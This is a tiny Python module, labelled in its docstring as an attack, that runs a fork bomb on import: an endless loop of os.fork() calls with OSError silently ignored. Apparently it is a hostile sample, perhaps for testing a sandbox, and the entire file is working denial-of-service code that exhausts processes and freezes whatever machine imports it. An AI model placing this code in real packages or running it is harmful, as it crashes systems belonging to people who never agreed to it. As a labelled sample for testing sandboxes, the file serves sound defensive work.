"""Attack: a fork bomb at import time: every process forks forever."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
